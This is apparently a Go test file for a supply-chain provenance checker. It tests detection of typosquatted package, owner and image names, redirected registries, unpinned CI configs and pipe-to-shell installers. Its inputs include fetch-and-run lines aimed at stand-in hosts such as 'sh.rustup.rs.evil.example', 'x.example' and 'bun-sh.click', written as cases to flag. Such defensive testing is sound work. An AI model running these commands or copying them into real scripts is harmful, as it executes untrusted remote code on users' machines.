package provenance

import "testing"

func TestHostOf(t *testing.T) {
	for in, want := range map[string]string{
		"https://Registry.NPMjs.org/":       "registry.npmjs.org",
		`"git+https://github.com/o/r.git"`:  "github.com",
		`https\://pypi.example.com/simple`:  "pypi.example.com",
		"registry.npmjs.org":                "",
		"not a url at all":                  "",
		"http://127.0.0.1:4873/some/path/x": "127.0.0.1",
	} {
		if got := HostOf(in); got != want {
			t.Errorf("HostOf(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestRedirected(t *testing.T) {
	for in, want := range map[string]string{
		"https://registry.npmjs.org/":       "",
		"https://mirror.pypi.org/simple":    "", // under a well-known host
		"https://jitpack.io":                "", // a shared package host
		"http://evil.example/simple":        "", // plain http is another rule's
		"https://npm.evil.example/registry": "npm.evil.example",
		"https://example.org/":              "", // a documentation example
		"https://pypi.example-cdn.org/":     "pypi.example-cdn.org",
	} {
		got, ok := Redirected(in)
		if got != want || ok != (want != "") {
			t.Errorf("Redirected(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
}

func TestLookalike(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"actions", ""},            // the name itself
		{"actlons", "actions"},     // one letter away
		{"acti0ns", "actions"},     // a digit read as a letter
		{"hashicrop", "hashicorp"}, // two edits in a long name
		{"dokcer", ""},             // two edits in a short one
		{"hashicorpp", "hashicorp"},
		{"abc", ""}, // too short to judge
	} {
		if got := Lookalike(c.in, KnownOwners); got != c.want {
			t.Errorf("Lookalike(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestNearOnly(t *testing.T) {
	for _, c := range []struct {
		s, k string
		want bool
	}{
		// Real names near a well-known one: a plain letter in a short name,
		// or one added at the start.
		{"tombi", "tomli", true},
		{"hypher", "hyper", true},
		{"ipython", "python", true},
		{"chalks", "chalk", true},
		// The forms a typosquat takes.
		{"lodahs", "lodash", false},           // two letters swapped
		{"serdde", "serde", false},            // a letter doubled
		{"crossenv", "cross-env", false},      // a separator dropped
		{"goiang", "golang", false},           // a look-alike letter
		{"gorllla", "gorilla", false},         // a look-alike letter
		{"conda-forg3", "conda-forge", false}, // a digit for a letter
		{"colourama", "colorama", false},      // a letter added inside a long name
		{"grpc-ecosystems", "grpc-ecosystem", false},
		{"devcontainer", "devcontainers", false},
		{"hashicrop", "hashicorp", false}, // further off
	} {
		if got := NearOnly(c.s, c.k); got != c.want {
			t.Errorf("NearOnly(%q, %q) = %v, want %v", c.s, c.k, got, c.want)
		}
	}
}

func TestComboOwner(t *testing.T) {
	for in, want := range map[string]string{
		"psf-black":     "psf",
		"pre-commit-ci": "", // itself a known owner
		"astral-sh-dev": "astral-sh",
		"scientific":    "",
	} {
		if got := ComboOwner(in, HookOwners()); got != want {
			t.Errorf("ComboOwner(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestVendorInstaller(t *testing.T) {
	for in, want := range map[string]string{
		"curl -sSf https://sh.rustup.rs | sh":                              "sh.rustup.rs",
		"curl -fsSL https://test.docker.com -o get-docker.sh":              "test.docker.com",
		"curl -fsSL https://test.docker.com.cdn-edge.net -o get-docker.sh": "",
		"curl https://sh.rustup.rs.evil.example | sh":                      "",
		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh":  "",
		"echo no url here":                    "",
		"curl -sS https://webi.sh/shfmt | sh": "webi.sh/",
		"iex (new-object net.webclient).downloadstring('https://get.scoop.sh')": "get.scoop.sh",
		// A well-known owner's own installer on a forge; anyone else's is not a vendor's.
		"curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh": "raw.githubusercontent.com/aquasecurity",
		"curl -sfL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh":                "",
		"curl -sfL https://raw.githubusercontent.com/aquasecurity-dev/trivy/main/install.sh | sh":     "",
		// PowerShell and curl take a URL without its scheme.
		`powershell -c "irm bun.sh/install.ps1|iex"`:       "bun.sh/install",
		`powershell -c "irm bun-sh.click/install.ps1|iex"`: "",
		// A release's installer at a version tag; an unnamed one at latest, or a binary, is not one.
		"curl -LsSf https://github.com/acme/tool/releases/download/v0.31.0/tool-installer.sh | sh": "github.com/acme/tool (release v0.31.0)",
		"curl -LsSf https://github.com/acme/tool/releases/latest/download/installer.sh | sh":       "",
		// The latest release's installer named for the repository's own
		// program (cargo-dist's <app>-installer.sh); a binary is no installer.
		"curl -LsSf https://github.com/acme/tool/releases/latest/download/tool-installer.sh | sh":  "github.com/acme/tool (latest release)",
		"curl -LsSf https://github.com/acme/tool/releases/latest/download/tool-linux-x64 -o t":     "",
		"curl -LsSf https://github.com/acme/tool/releases/latest/download/other-installer.sh | sh": "",
		"curl -LsSf https://github.com/acme/tool/releases/download/v1.2.0/tool-linux-x64 -o t":     "",
	} {
		if got := VendorInstaller(in); got != want {
			t.Errorf("VendorInstaller(%q) = %q, want %q", in, got, want)
		}
	}
}

// A popular owner a letter from a well-known one is its own project; an
// owner made to look like one still is a look-alike.
func TestLookalikeOwnerPopular(t *testing.T) {
	for owner, want := range map[string]string{"snok": "", "pyca": "", "pypi": "", "Snok": "", "snyyk": "snyk", "astrai-sh": "astral-sh", "hashicrop": "hashicorp"} {
		if got := LookalikeOwner(owner); got != want {
			t.Errorf("LookalikeOwner(%q) = %q, want %q", owner, got, want)
		}
	}
}

func TestPulledConfig(t *testing.T) {
	for _, c := range []struct {
		kind, ref, version, typ string
		want                    ConfigRisk
	}{
		{"remote", "https://ci.x.invalid/python.yml", "", "", ConfigMutable},
		{"remote", "$CI_SERVER_URL/acme/ci/-/raw/main/x.yml", "", "", ConfigHeld},
		{"remote", "https://gitlab.com/o/ci/-/raw/0123456789abcdef0123456789abcdef01234567/x.yml", "", "", ConfigFixed},
		{"remote", "https://gitlab.com/gitlab-org/frontend/x/-/raw/main/t.yml", "", "", ConfigFixed},
		{"remote", "https://githlab.com/o/ci/-/raw/main/x.yml", "", "", ConfigLookalike},
		{"component", "gitlab.com/components/sast/sast", "2.0", "", ConfigHeld},
		{"component", "gitlab.com/o/lint/lint", "main", "", ConfigMutable},
		{"component", "gitlab.gnome.org/GNOME/citemplates/release-service", "master", "", ConfigFixed},
		{"component", "gitlab.gnome.org/GNOME/citemplates/release-service", "v1.2", "", ConfigHeld},
		{"remote", "https://gitlab.x.invalid/o/ci/-/raw/main/x.yml", "", "", ConfigMutable},
		{"remote", "https://gitlab.com.x.invalid/o/ci/-/raw/main/x.yml", "", "", ConfigMutable},
		{"remote", "https://ci.x.invalid/templates/python.yml", "sha256-", "", ConfigMutable},
		{"remote", "https://ci.x.invalid/templates/python.yml", "sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=", "", ConfigFixed},
		{"remote", "https://salsa.debian.org/salsa-ci-team/pipeline/raw/master/salsa-ci.yml", "", "", ConfigFixed},
		{"remote", "https://gitlab.gnome.org/GNOME/citemplates/raw/master/flatpak/flatpak_ci_initiative.yml", "", "", ConfigFixed},
		{"orb", "circleci/node", "5.1.0", "", ConfigHeld},
		{"orb", "circle-ci/node", "5.1.0", "", ConfigLookalike},
		{"orb", "someone/deploy", "volatile", "", ConfigMutable},
		{"orb", "codecov/codecov", "3.3.0", "", ConfigHeld},
		{"repository", "Project/Templates", "", "git", ConfigHeld},
		{"repository", "someone/templates", "refs/heads/main", "github", ConfigMutable},
		{"repository", "someone/templates", "refs/tags/v1", "github", ConfigFixed},
		{"repository", "microsoft/templates", "main", "github", ConfigFixed},
		{"plugin", "docker", "v5.9.0", "", ConfigHeld},
		{"plugin", "seek-oss/aws-sm", "v2.3.1", "", ConfigFixed},
		{"plugin", "someone/helper", "main", "", ConfigMutable},
		{"library", "https://github.com/o/lib.git", "v1.2.0", "", ConfigFixed},
		{"library", "https://git.x.invalid/o/lib.git", "main", "", ConfigMutable},
		{"library", "https://github.com/jenkins-infra/pipeline-library.git", "master", "", ConfigFixed},
		{"plugin", "ssh://git@github.com/acme/private-plugin.git", "v1.0.0", "", ConfigFixed},
	} {
		if got, _, _ := PulledConfig(c.kind, c.ref, c.version, c.typ); got != c.want {
			t.Errorf("PulledConfig(%s, %s, %s, %s) = %d, want %d", c.kind, c.ref, c.version, c.typ, got, c.want)
		}
	}
}

// The installer of the tool an install script's folder is named after.
func TestOwnInstaller(t *testing.T) {
	for _, c := range []struct{ file, line, want string }{
		{".devcontainer/features/atuin/install.sh", "curl -LsSf https://setup.atuin.sh | bash", "setup.atuin.sh"},
		{".devcontainer/features/delta/install.sh", "curl -fsSL https://raw.githubusercontent.com/dandavison/delta/0.18.2/install.sh | sh", "raw.githubusercontent.com"},
		// A branch is whatever the repository's owner last pushed; outside a
		// dev container feature a folder's name is one the change chose.
		{".devcontainer/features/delta/install.sh", "curl -fsSL https://raw.githubusercontent.com/dandavison/delta/main/install.sh | sh", ""},
		{"tools/payloadx/install.sh", "curl -fsSL https://get.payloadx.dev | sh", ""},
		{"scripts/payloadx/install.sh", "curl -fsSL https://github.com/someone/payloadx/releases/download/v1.0/install.sh | sh", ""},
		{".devcontainer/features/atuin/install.sh", "curl -LsSf https://setup.atuin-cdn.sh | bash", ""},
		{"scripts/install.sh", "curl -LsSf https://scripts.x.invalid/i | bash", ""},
		{"atuin/setup.sh", "curl -LsSf https://setup.atuin.sh | bash", ""},
	} {
		if got := OwnInstaller(c.file, c.line); got != c.want {
			t.Errorf("OwnInstaller(%q, %q) = %q, want %q", c.file, c.line, got, c.want)
		}
	}
}

func TestImageName(t *testing.T) {
	for in, want := range map[string]string{
		"python:3.12-slim":                 "python",
		"localhost:5000/app:1":             "localhost:5000/app",
		"ghcr.io/o/app@sha256:0123abcd":    "ghcr.io/o/app",
		"registry.x:443/o/app:1@sha256:ab": "registry.x:443/o/app",
		"alpine":                           "alpine",
	} {
		if got := ImageName(in); got != want {
			t.Errorf("ImageName(%q) = %q, want %q", in, got, want)
		}
	}
}

// A language's own Docker Hub namespace is no look-alike of another's.
func TestLookalikePublisherLanguages(t *testing.T) {
	for ns, want := range map[string]string{"rubylang": "", "rustlang": "", "rustiang": "rustlang", "bitnarni": "bitnami"} {
		if got := LookalikePublisher(ns); got != want {
			t.Errorf("LookalikePublisher(%q) = %q, want %q", ns, got, want)
		}
	}
}
